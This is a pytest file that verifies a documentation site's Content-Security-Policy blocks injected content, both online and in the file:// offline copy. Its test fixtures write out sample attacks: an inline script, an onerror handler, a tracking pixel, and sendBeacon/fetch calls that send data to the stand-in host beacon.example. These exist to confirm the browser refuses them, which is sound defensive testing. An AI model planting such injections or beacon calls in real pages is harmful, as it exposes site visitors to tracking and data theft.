"""Every page carries a Content-Security-Policy (study_notes/security.py)
that lets only the site's own files run and load: a slip that escapes every
other check is still refused by the reader's browser, online and in the
file:// offline copy, while everything the site does keeps working."""

import base64
import hashlib
import re

import pytest

from tooling.browser import draw_all_diagrams
from tooling.project import language_prefix, languages
from tooling.search_box import search

POLICY = re.compile(r'<meta charset="utf-8">\s*<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>(.*?)</script>", re.S)
# Beyond 'self' (and hashes), the only sources a directive may name.
ALSO_ALLOWED = {
    "script-src": set(),
    # Material's icons are data:image/svg+xml URLs in its stylesheet.
    "img-src": {"data:"},
    # Only where Mermaid draws in the browser (the hook's style_sources()):
    # never in a published build (test below).
    "style-src": {"'unsafe-inline'"},
    "font-src": set(),
    "connect-src": set(),
    "worker-src": set(),
    "frame-src": set(),
}

# What a page would contain if raw HTML slipped past every build check.
SLIP = """
<script>window.slipRan = "an inline script"</script>
<img src="data:," alt="" onerror="window.slipRan = 'an event handler'">
<img src="https://beacon.example/pixel.gif" alt="">
"""
# And what a script that got in anyway would try after the page has loaded.
AFTER_LOAD = """() => {
  const script = document.createElement("script");
  script.textContent = "window.slipRan = 'a script added later'";
  document.body.append(script);
  navigator.sendBeacon("https://beacon.example/collect", "read");
  return fetch("https://beacon.example/api").then(() => "sent", () => "refused");
}"""


def directives(policy):
    return {name: rest.split() for name, _, rest in (d.strip().partition(" ") for d in policy.split(";"))}


def sha256(text):
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def test_every_page_allows_only_its_own_origin_and_its_own_inline_scripts(built_site):
    """Pages, the 404 page and redirect stubs: the policy comes first in the
    head, names no other host, and hashes exactly the inline scripts present."""
    files = sorted(built_site.site.rglob("*.html"))
    assert len(files) > 15, f"only {len(files)} HTML files in {built_site.site}"
    for path in files:
        html = path.read_text(encoding="utf-8")
        where = path.relative_to(built_site.site)
        found = POLICY.search(html[:1000])
        assert found, f"{where}: no Content-Security-Policy right after <meta charset>"
        policy = directives(found[1])
        assert policy["default-src"] == ["'none'"], where
        for name, allowed in ALSO_ALLOWED.items():
            first, *rest = policy[name]
            extra = {source for source in rest if not source.startswith("'sha256-")}
            assert first == "'self'" and extra <= allowed, f"{where}: {name} {policy[name]}"
        scripts = {sha256(text) for text in INLINE_SCRIPT.findall(html)}
        assert scripts, f"{where}: no inline script found, so the hash check proves nothing"
        assert set(policy["script-src"][1:]) == scripts, f"{where}: hashes differ from its scripts"
        assert "frame-ancestors" not in policy, f"{where}: frame-ancestors is ignored in a meta policy"


def test_no_published_page_allows_inline_styles(built_site):
    """Diagrams are drawn ahead of time (diagrams/), so even pages with
    diagrams need no inline style."""
    with_diagrams = 0
    for _, url, path in built_site.pages():
        html = path.read_text(encoding="utf-8")
        assert directives(POLICY.search(html)[1])["style-src"] == ["'self'"], f"{url}: inline styles allowed"
        with_diagrams += 'class="mermaid-diagram' in html
    assert with_diagrams >= 8, with_diagrams


def with_slip(html):
    return html.replace("</article>", SLIP + "</article>", 1)


def offline_file(path):
    """Where a site path lives in the offline copy (no directory URLs there)."""
    roots = {language_prefix(language) for language in languages()}
    return path.lstrip("/") + "index.html" if path in roots else path.strip("/") + ".html"


@pytest.fixture(params=["online", "file"])
def where(request, site_url, offline_copy):
    """Open a page of the served site or of the file:// offline copy by its
    site path; with slip=True the page carries SLIP, as if it had been built so."""
    mode = request.param

    def open_page(offline, path, slip=False, **options):
        page, log = offline(**options)
        if mode == "online":
            url = site_url + path
            if slip:

                def serve_with_slip(route):
                    response = route.fetch()
                    route.fulfill(
                        response=response, body=response.text().replace("</article>", SLIP + "</article>")
                    )

                page.route(url, serve_with_slip)
        else:
            file = offline_copy / offline_file(path)
            if slip:
                slipped = file.with_name("slip-" + file.name)
                slipped.write_text(
                    file.read_text(encoding="utf-8").replace("</article>", SLIP + "</article>")
                )
                request.addfinalizer(slipped.unlink)
                file = slipped
            url = file.as_uri()
        page.goto(url)
        return page, log

    open_page.mode = mode
    return open_page


@pytest.mark.browser
def test_an_injected_inline_script_and_an_outside_beacon_are_refused(where, offline):
    page, log = where(offline, "/en/", slip=True)
    assert page.locator("img[src^='https://beacon.example']").count() == 1, "the slip is not in the page"
    assert page.evaluate(AFTER_LOAD) == "refused"
    page.wait_for_timeout(300)
    assert page.evaluate("window.slipRan") is None, f"{page.evaluate('window.slipRan')} ran"
    refused = "\n".join(log.policy_violations)
    for directive, what in [
        ("script-src-elem", "inline"),  # the <script> in the page and the one added later
        ("script-src-attr", "inline"),  # onerror=
        ("img-src", "https://beacon.example/pixel.gif"),
        ("connect-src", "https://beacon.example/collect"),
        ("connect-src", "https://beacon.example/api"),
    ]:
        assert f"{directive} refused {what}" in refused, f"{directive} {what} not refused:\n{refused}"
    # The policy stopped them, not the test's own network filter.
    assert not log.outside_requests, log.outside_requests


@pytest.mark.browser
def test_search_diagrams_side_by_side_and_palette_work_under_the_policy(where, offline):
    page, log = where(offline, "/kubernetes/control-plane-and-nodes/", color_scheme="light")
    assert search(page, "쿼럼"), "search found nothing"
    page.keyboard.press("Escape")
    draw_all_diagrams(page)
    fill = "() => getComputedStyle(document.querySelector('.mermaid-diagram .node rect')).fill"
    light = page.evaluate(fill)
    page.locator("label[for='__palette_1']").click()
    page.wait_for_function("() => document.body.dataset.mdColorScheme === 'slate'")
    assert page.evaluate(fill) != light, "the drawings kept their light colours"
    page.get_by_role("button", name="한/영 나란히 보기").click()
    page.wait_for_selector(".sbs-row")
    assert page.locator(".sbs-col--twin[lang=en] h3#twin-etcd").count() == 1
    draw_all_diagrams(page)
    assert page.locator(".sbs-col--twin .mermaid-diagram svg").count() > 0
    assert not log.problems(), "\n".join(log.problems())
